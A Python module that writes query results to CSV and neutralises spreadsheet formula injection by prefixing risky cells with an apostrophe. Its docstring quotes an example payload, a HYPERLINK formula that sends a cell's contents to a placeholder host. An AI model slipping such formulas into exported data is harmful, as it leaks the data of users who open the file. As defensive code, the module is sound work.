"""Results as files a user downloads: CSV that a spreadsheet opens as data, never as formulas.

A cell such as ``=HYPERLINK("http://x/?"&A1, "Click")`` read from a database (anyone may have
typed it into a customer's name) runs as a formula when the CSV is opened in Excel or Sheets.
Text starting with ``= + - @`` (or a tab or carriage return) gets a leading ``'``, the usual
neutraliser (OWASP "CSV injection"); numbers are left alone. Binary values are already ``0x`` hex
text (:func:`sqlchat.execution.binary_text`).
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value: object) -> object:
    """``value``, with a ``'`` in front when it is text a spreadsheet would run as a formula."""
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV, formulas neutralised in every text cell and column name."""
    safe = frame.map(inert_cell) if len(frame) else frame.copy()
    safe.columns = [inert_cell(str(c)) for c in frame.columns]
    return safe.to_csv(index=False).encode("utf-8")
